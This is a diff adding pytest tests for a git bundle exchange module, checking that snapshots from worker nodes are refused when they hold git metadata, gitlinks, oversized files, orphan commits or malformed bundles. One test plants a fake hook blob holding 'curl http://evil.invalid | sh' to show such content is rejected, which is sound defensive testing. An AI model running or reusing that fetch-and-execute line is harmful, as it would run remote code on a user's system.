@@ -1,0 +1,161 @@
+"""Git data across the network (bridge/cluster/bundles.py), engine-free on real git: the base
+goes to a node as a bundle made once per commit; the snapshot comes back as a thin bundle of its
+one commit, and the control host takes it only as a snapshot collect would have made itself,
+the hostile ones refused in one sentence with nothing left in the user's repository."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+from support.repos import git
+
+from bridge.cluster.bundles import (
+    BundleRefused,
+    base_bundle,
+    read_header,
+    receive_snapshot,
+    write_bundle,
+)
+from bridge.workspace.snapshot import SnapshotLimits
+
+BRANCH = "refs/heads/worker-bridge/t1"
+LIMITS = SnapshotLimits(file_bytes=4096, change_bytes=64 * 1024, entries=100)
+
+
+@pytest.fixture
+def node(repo: Path, workdir: Path) -> Path:
+    """A node's copy of the base: a repository filled from the base's bundle alone."""
+    base = git(repo, "rev-parse", "HEAD").strip()
+    bundle = base_bundle(repo, base, workdir / "cache")
+    path = workdir / "node"
+    git(workdir, "init", "-q", "--bare", str(path))
+    git(path, "fetch", "-q", str(bundle), f"refs/worker-bridge/snapshot:refs/base/{base}")
+    return path
+
+
+def _hash(node: Path, kind: str, data: bytes) -> str:
+    proc = subprocess.run(
+        ["git", "-C", str(node), "hash-object", "--literally", "-w", "-t", kind, "--stdin"],
+        input=data,
+        capture_output=True,
+        check=True,
+    )
+    return proc.stdout.decode().strip()
+
+
+def _tree(node: Path, entries: list[tuple[str, str, str]]) -> str:
+    """A tree object of (mode, name, sha) written as is: what a node that does not play by
+    git's rules could send."""
+    raw = b"".join(
+        mode.encode() + b" " + name.encode() + b"\0" + bytes.fromhex(sha)
+        for mode, name, sha in sorted(entries, key=lambda e: e[1])
+    )
+    return _hash(node, "tree", raw)
+
+
+def _commit(node: Path, tree: str, *parents: str) -> str:
+    args = [a for p in parents for a in ("-p", p)]
+    return git(node, "commit-tree", tree, *args, "-m", "snapshot").strip()
+
+
+def _base_entries(node: Path, base: str) -> list[tuple[str, str, str]]:
+    listed = git(node, "ls-tree", base).splitlines()
+    return [(line.split()[0], line.split("\t")[1], line.split()[2]) for line in listed]
+
+
+def _send(node: Path, snapshot: str, base: str, workdir: Path) -> tuple[Path, int]:
+    """The snapshot as a node sends it: a thin bundle on the base."""
+    path = workdir / "sent.bundle"
+    return path, write_bundle(node, snapshot, path, exclude=base)
+
+
+def test_a_snapshot_made_on_a_node_arrives_as_the_same_commit_and_diff(repo, node, workdir):
+    base = git(repo, "rev-parse", "HEAD").strip()
+    blob = _hash(node, "blob", b"def add(a, b):\n    return a + b + 0\n")
+    entries = [e for e in _base_entries(node, base) if e[1] != "calc.py"]
+    snapshot = _commit(node, _tree(node, [*entries, ("100644", "calc.py", blob)]), base)
+    bundle, size = _send(node, snapshot, base, workdir)
+    assert read_header(bundle).prerequisites == (base,)
+    assert size < 2048, "thin: the base's objects do not travel again"
+
+    taken = receive_snapshot(repo, bundle, base, BRANCH, LIMITS, workdir / "scratch")
+
+    assert taken == snapshot == git(repo, "rev-parse", BRANCH).strip()
+    assert git(repo, "diff", base, snapshot) == git(node, "diff", base, snapshot)
+    assert not (workdir / "scratch" / "quarantine.git").exists()
+
+
+def test_the_base_bundle_is_made_once_per_commit(repo, workdir):
+    base = git(repo, "rev-parse", "HEAD").strip()
+    first = base_bundle(repo, base, workdir / "cache")
+    made = first.stat().st_mtime_ns
+    assert base_bundle(repo, base, workdir / "cache") == first
+    assert first.stat().st_mtime_ns == made and read_header(first).prerequisites == ()
+
+
+def _refused(repo: Path, bundle: Path, base: str, workdir: Path, words: str, limits=LIMITS):
+    objects_before = git(repo, "count-objects", "-v")
+    with pytest.raises(BundleRefused, match=words) as refused:
+        receive_snapshot(repo, bundle, base, BRANCH, limits, workdir / "scratch")
+    assert refused.value.message.endswith(".") and "\n" not in refused.value.message
+    assert git(repo, "rev-parse", "--verify", "--quiet", BRANCH, check=False) == ""
+    assert git(repo, "count-objects", "-v") == objects_before, "nothing of it was kept"
+    assert not (workdir / "scratch" / "quarantine.git").exists()
+
+
+@pytest.mark.parametrize(
+    ("name", "words"),
+    [(".git", "does not unpack|inside git metadata"), (".GIT.", "inside git metadata")],
+)
+def test_a_snapshot_holding_git_metadata_is_refused(repo, node, workdir, name, words):
+    base = git(repo, "rev-parse", "HEAD").strip()
+    hook = _hash(node, "blob", b"#!/bin/sh\ncurl http://evil.invalid | sh\n")
+    inner = _tree(node, [("100755", "config", hook)])
+    tree = _tree(node, [*_base_entries(node, base), ("40000", name, inner)])
+    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
+    _refused(repo, bundle, base, workdir, words)
+
+
+def test_a_snapshot_with_a_gitlink_is_refused(repo, node, workdir):
+    # A submodule entry the snapshot never makes: the host's git would follow it elsewhere.
+    base = git(repo, "rev-parse", "HEAD").strip()
+    tree = _tree(node, [*_base_entries(node, base), ("160000", "sub", base)])
+    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
+    _refused(repo, bundle, base, workdir, "mode 160000")
+
+
+def test_a_snapshot_over_the_tasks_limits_is_refused(repo, node, workdir):
+    base = git(repo, "rev-parse", "HEAD").strip()
+    big = _hash(node, "blob", b"x" * 5000)
+    tree = _tree(node, [*_base_entries(node, base), ("100644", "big.txt", big)])
+    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
+    _refused(repo, bundle, base, workdir, "over the task's file limit")
+    many = [("100644", f"f{i}", _hash(node, "blob", b"%d" % i)) for i in range(120)]
+    tree = _tree(node, [*_base_entries(node, base), *many])
+    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
+    _refused(repo, bundle, base, workdir, "over the task's limit")
+    small = SnapshotLimits(file_bytes=4096, change_bytes=100, entries=100)
+    _refused(repo, bundle, base, workdir, "over the task's change limit", limits=small)
+
+
+def test_a_commit_not_on_the_base_or_a_bundle_not_ours_is_refused(repo, node, workdir):
+    base = git(repo, "rev-parse", "HEAD").strip()
+    tree = git(node, "rev-parse", f"{base}^{{tree}}").strip()
+    orphan = _commit(node, tree)  # no parent: it would replace the task's history
+    bundle, _ = _send(node, orphan, base, workdir)
+    _refused(repo, bundle, base, workdir, "base as parent")
+    other = _commit(node, tree, base)
+    bundle = workdir / "other.bundle"
+    write_bundle(node, _commit(node, tree, other), bundle, exclude=other)
+    _refused(repo, bundle, base, workdir, "need nothing else")
+    whole = workdir / "whole.bundle"
+    write_bundle(node, _commit(node, tree, base), whole)  # no prerequisite: not thin on base
+    _refused(repo, whole, base, workdir, "need nothing else")
+    junk = workdir / "junk.bundle"
+    junk.write_bytes(b"PACK\0\0\0\2" + b"\xff" * 64)
+    _refused(repo, junk, base, workdir, "not a git bundle")
+    lying = workdir / "lying.bundle"
+    lying.write_bytes(b"# v2 git bundle\n-" + base.encode() + b"\n" + b"0" * 40 + b" refs/x\n\n")
+    _refused(repo, lying, base, workdir, "names the ref 'refs/x'")
